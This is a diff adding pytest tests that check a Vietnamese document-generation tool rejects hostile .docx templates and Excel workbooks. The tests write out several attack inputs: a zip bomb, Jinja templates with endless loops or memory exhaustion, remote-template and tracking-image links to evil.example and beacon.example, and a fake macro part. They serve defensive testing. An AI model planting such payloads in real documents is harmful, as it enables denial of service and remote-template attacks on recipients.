@@ -551,3 +551,272 @@ def test_a_real_build_killed_at_any_moment_is_all_or_nothing(tmp_path_factory, f
     for f in out.rglob("*.docx"):
         with zipfile.ZipFile(f) as z:
             assert z.testzip() is None
+
+
+# ================================================================================ issue 13: hostile templates
+BUILTIN = ROOT / "templates"
+
+
+def _template_dir(tmp_path: Path, edit) -> Path:
+    """templates/ beside a copy of the demo workbook (picked up automatically), with ke-hoach.docx edited:
+    ``edit(parts)`` changes the dict of zip parts in place."""
+    folder = tmp_path / "templates"
+    folder.mkdir()
+    with zipfile.ZipFile(BUILTIN / "ke-hoach.docx") as zf:
+        parts = {n: zf.read(n) for n in zf.namelist()}
+    edit(parts)
+    with zipfile.ZipFile(folder / "ke-hoach.docx", "w", zipfile.ZIP_DEFLATED) as out:
+        for name, data in parts.items():
+            out.writestr(name, data)
+    (tmp_path / "ho-so.xlsx").write_bytes(DEMO.read_bytes())
+    return tmp_path / "ho-so.xlsx"
+
+
+def _in_first_paragraph(parts: dict, text: str) -> None:
+    xml = parts["word/document.xml"].decode("utf-8")
+    i = xml.index("<w:t", xml.index("<w:body>"))
+    j = xml.index(">", i) + 1
+    parts["word/document.xml"] = (xml[:j] + text + xml[j:]).encode("utf-8")
+
+
+def test_zip_bomb_template_beside_the_workbook_is_refused(tmp_path):
+    """Issue 13.5: an image part that inflates 1000:1, in a templates/ folder found automatically."""
+    wb = _template_dir(tmp_path, lambda parts: parts.__setitem__("word/media/bom.png", b"\0" * (40 * 1024 * 1024)))
+    res = _run("build", str(wb), "-o", str(tmp_path / "out"))
+    assert res.returncode == 1, res.stderr
+    assert 'Mẫu "ke-hoach.docx"' in res.stderr and "bom nén" in res.stderr
+    assert not (tmp_path / "out").exists()
+
+
+def test_a_template_that_loops_forever_is_stopped(tmp_path):
+    """Issue 13.6: nested range(100000) loops: stopped after the time limit, with the template named."""
+    wb = _template_dir(tmp_path, lambda parts: _in_first_paragraph(
+        parts, "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"))
+    start = time.perf_counter()
+    res = _run("build", str(wb), "-o", str(tmp_path / "out"), env=dict(ENV, DOCGEN_RENDER_SECONDS="3"))
+    assert time.perf_counter() - start < 60
+    assert res.returncode == 1, res.stderr
+    assert 'Mẫu "ke-hoach.docx": hiển thị quá 3 giây' in res.stderr
+    assert not (tmp_path / "out").exists()
+
+
+def test_a_template_that_exhausts_memory_is_stopped(tmp_path):
+    """Issue 13.7: {{ 'A' * 10**9 }} under a 512 MB limit."""
+    wb = _template_dir(tmp_path, lambda parts: _in_first_paragraph(parts, "{{ 'A' * 10**9 }}"))
+    res = _run("build", str(wb), "-o", str(tmp_path / "out"), env=dict(ENV, DOCGEN_RENDER_MEMORY_MB="512"))
+    assert res.returncode == 1, res.stderr
+    assert 'Mẫu "ke-hoach.docx"' in res.stderr and "bộ nhớ" in res.stderr, res.stderr
+    assert "Traceback" not in res.stderr and not (tmp_path / "out").exists()
+
+
+def test_an_oversized_output_is_refused(tmp_path):
+    wb = _template_dir(tmp_path, lambda parts: _in_first_paragraph(parts, "{{ 'A' * 3000000 }}"))
+    res = _run("build", str(wb), "-o", str(tmp_path / "out"), env=dict(ENV, DOCGEN_RENDER_OUTPUT_MB="1"))
+    assert res.returncode == 1 and "văn bản tạo ra quá lớn" in res.stderr, res.stderr
+
+
+EXTERNAL_RELS = (
+    b'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
+    b'Target="http://beacon.example/x" TargetMode="External"/>'
+    b'<Relationship Id="rIdX2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
+    b'Target="http://beacon.example/p.png" TargetMode="External"/>')
+SETTINGS_RELS = (
+    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
+    b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" '
+    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')
+
+
+def _add_external(parts: dict) -> None:
+    rels = parts["word/_rels/document.xml.rels"]
+    parts["word/_rels/document.xml.rels"] = rels.replace(b"</Relationships>", EXTERNAL_RELS + b"</Relationships>")
+    xml = parts["word/document.xml"].decode("utf-8")
+    link = ('<w:hyperlink r:id="rIdX1"><w:r><w:t>Cổng thông tin</w:t></w:r></w:hyperlink>'
+            '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
+            '<wp:extent cx="10" cy="10"/><wp:docPr id="99" name="p"/><a:graphic '
+            'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData '
+            'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic '
+            'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="99" '
+            'name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rIdX2"/></pic:blipFill><pic:spPr/>'
+            '</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>')
+    i = xml.index("<w:body>") + len("<w:body>")
+    parts["word/document.xml"] = (xml[:i] + "<w:p>" + link + "</w:p>" + xml[i:]).encode("utf-8")
+    settings_xml = parts["word/settings.xml"].decode("utf-8")
+    j = settings_xml.index(">", settings_xml.index("<w:settings")) + 1
+    parts["word/settings.xml"] = (settings_xml[:j] + '<w:attachedTemplate r:id="rIdT"/>' + settings_xml[j:]).replace(
+        "<w:settings ", '<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ',
+        1 if 'xmlns:r=' not in settings_xml else 0).encode("utf-8")
+    parts["word/_rels/settings.xml.rels"] = SETTINGS_RELS
+
+
+def _add_macro(parts: dict) -> None:
+    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 not really VBA"
+    parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(
+        b"</Relationships>", b'<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/'
+                             b'vbaProject" Target="vbaProject.bin"/></Relationships>')
+    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
+        b"</Types>", b'<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+                     b"</Types>")
+
+
+def test_external_relationships_and_macros_never_reach_the_documents(tmp_path):
+    """Issues 13.8 and 13.12: a hyperlink, a remote image, an attached remote template and a vbaProject.bin in a
+    .docx template: the built Kế hoạch has none of them (the hyperlink's text stays), kiem-tra.txt says what was
+    removed, and the document passes the checker."""
+    from docx import Document
+    from docgen.nd30 import check_document
+
+    def edit(parts):
+        _add_external(parts)
+        _add_macro(parts)
+
+    wb = _template_dir(tmp_path, edit)
+    out = tmp_path / "out"
+    res = CliRunner().invoke(cli, ["build", str(wb), "-o", str(out)])
+    assert res.exit_code == 0, res.output
+    with zipfile.ZipFile(out / "ke-hoach.docx") as zf:
+        names = zf.namelist()
+        rels = b"".join(zf.read(n) for n in names if n.endswith(".rels"))
+        xml = zf.read("word/document.xml") + zf.read("word/settings.xml")
+    assert b"External" not in rels and b"beacon" not in rels and b"evil" not in rels
+    assert "word/vbaProject.bin" not in names and b"vbaProject" not in rels
+    assert b"attachedTemplate" not in xml and b"r:link" not in xml
+    assert "Cổng thông tin".encode() in xml                                    # the link's text stays
+    Document(str(out / "ke-hoach.docx"))
+    report = (out / "kiem-tra.txt").read_text("utf-8")
+    assert "đã bỏ macro" in report and "attachedTemplate" in report and "hyperlink" in report
+    assert check_document(out / "ke-hoach.docx").ok
+
+
+def test_docgen_check_reports_external_relationships_macros_and_embedded_objects(tmp_path):
+    """Issue 13.8: the checker names each part; a remote template or a macro is an error (KHÔNG ĐẠT)."""
+    from docgen.nd30 import check_document
+
+    docgen.build(DEMO, tmp_path / "out", only={"ke-hoach"})
+    with zipfile.ZipFile(tmp_path / "out" / "ke-hoach.docx") as zf:
+        parts = {n: zf.read(n) for n in zf.namelist()}
+    _add_external(parts)
+    _add_macro(parts)
+    parts["word/embeddings/oleObject1.bin"] = b"ole"
+    bad = tmp_path / "nguy-hiem.docx"
+    with zipfile.ZipFile(bad, "w") as zf:
+        for name, data in parts.items():
+            zf.writestr(name, data)
+    result = check_document(bad)
+    found = {(f.code, f.where, f.severity) for f in result.findings if f.code.startswith("ND30-PKG")}
+    assert ("ND30-PKG-MACRO", "word/vbaProject.bin", "loi") in found
+    assert ("ND30-PKG-EXTERNAL", "word/_rels/settings.xml.rels", "loi") in found       # attachedTemplate
+    assert ("ND30-PKG-EXTERNAL", "word/_rels/document.xml.rels", "canh_bao") in found  # the hyperlink
+    assert ("ND30-PKG-EMBEDDED", "word/embeddings/oleObject1.bin", "canh_bao") in found
+    assert not result.ok
+    res = CliRunner().invoke(cli, ["check", str(bad)])
+    assert res.exit_code != 0 and "ND30-PKG-EXTERNAL" in res.output
+
+
+@pytest.mark.parametrize("content_type,message", [
+    ("application/vnd.ms-word.document.macroEnabled.main+xml", "văn bản Word có macro (.docm)"),
+    ("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml", "tệp mẫu Word (.dotx)"),
+])
+def test_docm_and_dotx_named_docx_have_their_own_message(tmp_path, content_type, message):
+    """Issue 13.12: not "một bộ lọc gặp giá trị không hợp lệ"."""
+    def edit(parts):
+        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
+            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", content_type.encode())
+
+    wb = _template_dir(tmp_path, edit)
+    res = CliRunner().invoke(cli, ["build", str(wb), "-o", str(tmp_path / "out")])
+    assert res.exit_code == 1, res.output
+    assert f'Mẫu "ke-hoach.docx" thực chất là {message} dù mang đuôi .docx' in res.output
+    assert "bộ lọc" not in res.output and not (tmp_path / "out").exists()
+
+
+def test_a_filter_given_a_bad_value_is_still_a_filter_problem(tmp_path):
+    wb = _template_dir(tmp_path, lambda parts: _in_first_paragraph(parts, "{{ 'không phải ngày' | ngay }}"))
+    res = CliRunner().invoke(cli, ["build", str(wb), "-o", str(tmp_path / "out")])
+    assert res.exit_code == 1 and "một bộ lọc gặp giá trị không hợp lệ" in res.output, res.output
+
+
+# ================================================================================ issue 13: hostile workbooks
+def _demo_copy(tmp_path: Path, edit) -> Path:
+    wb = openpyxl.load_workbook(DEMO)
+    edit(wb)
+    path = tmp_path / "ho-so.xlsx"
+    wb.save(path)
+    return path
+
+
+def _validate(path: Path):
+    from docgen.build import validate
+
+    return validate(path)[1]
+
+
+def test_two_sheets_folding_to_one_name_are_an_error_naming_both(tmp_path):
+    """Issue 13.9: a forged copy "CA NHAN" beside "Cá nhân"."""
+    def edit(wb):
+        copy = wb.copy_worksheet(wb["Cá nhân"])
+        copy.title = "CA NHAN"
+        copy["B5"] = "Nội dung giả mạo"
+
+    res = CliRunner().invoke(cli, ["validate", str(_demo_copy(tmp_path, edit))])
+    assert res.exit_code == 1, res.output
+    assert '"Cá nhân" và "CA NHAN"' in res.output
+
+
+def test_rows_after_a_long_blank_run_are_read(tmp_path):
+    """Issue 13.10: a candidate at row 6020, after 6,000 blank (formatted) rows, is read."""
+    def edit(wb):
+        ws = wb["Cá nhân"]
+        last = ws.max_row
+        for r in range(last + 1, 6020):
+            ws.row_dimensions[r].height = 16          # empty formatted rows, as a clerk's sheet has
+        for c, cell in enumerate(ws[last], start=1):
+            ws.cell(row=6020, column=c, value=cell.value)
+        ws.cell(row=6020, column=2, value="Người Ở Dòng Sáu Nghìn")
+
+    campaign = docgen.load_campaign(_demo_copy(tmp_path, edit))
+    assert any(p.row == 6020 and p.full_name == "Người Ở Dòng Sáu Nghìn" for p in campaign.individuals)
+
+
+def test_hidden_sheet_used_is_named_in_a_warning(tmp_path):
+    report = _validate(_demo_copy(tmp_path, lambda wb: setattr(wb["Biểu quyết"], "sheet_state", "hidden")))
+    assert any(p.rule == "sheet-an" and p.sheet == "Biểu quyết" and "bị ẩn" in p.message for p in report.warnings)
+
+
+def test_fifty_rows_with_the_same_name_give_one_error(tmp_path):
+    """Issue 13.14: one finding per group, not 1,225 pairs."""
+    def edit(wb):
+        ws = wb["Cá nhân"]
+        first = [c.value for c in ws[5]]
+        for r in range(ws.max_row + 1, ws.max_row + 50):
+            for c, v in enumerate(first, start=1):
+                ws.cell(row=r, column=c, value=v)
+
+    report = _validate(_demo_copy(tmp_path, edit))
+    same = [p for p in report.errors if p.rule == "trung-ca-nhan"]
+    assert len(same) == 1 and "50 lần" in same[0].message, [p.message for p in same]
+
+
+def test_a_negative_date_serial_and_a_future_birth_date_are_errors(tmp_path):
+    """Issue 13.14: serial −5 is no birth date (25/12/1899); a birth date after today neither."""
+    def edit(wb):
+        ws = wb["Cá nhân"]
+        col = next(c.column for c in ws[1] if c.value == "Ngày sinh")
+        ws.cell(row=5, column=col, value=-5).number_format = "dd/mm/yyyy"
+        ws.cell(row=6, column=col, value=date(2099, 1, 1))
+
+    report = _validate(_demo_copy(tmp_path, edit))
+    dates = {p.row: p.message for p in report.errors if p.rule == "ngay-khong-hop-le" and p.column == "Ngày sinh"}
+    assert "trước năm 1900" in dates[5] and "sau hôm nay" in dates[6]
+
+
+def test_library_warnings_become_located_vietnamese_warnings(tmp_path):
+    """Issue 13.13: a date cell holding 1e300: no English UserWarning on stderr."""
+    def edit(wb):
+        ws = wb["Cá nhân"]
+        col = next(c.column for c in ws[1] if c.value == "Ngày sinh")
+        ws.cell(row=5, column=col, value=1e300).number_format = "dd/mm/yyyy"
+
+    res = _run("validate", str(_demo_copy(tmp_path, edit)))
+    assert "UserWarning" not in res.stderr and "Warning" not in res.stdout + res.stderr
+    assert "dòng 5" in res.stdout and "không phải ngày có thật" in res.stdout, res.stdout
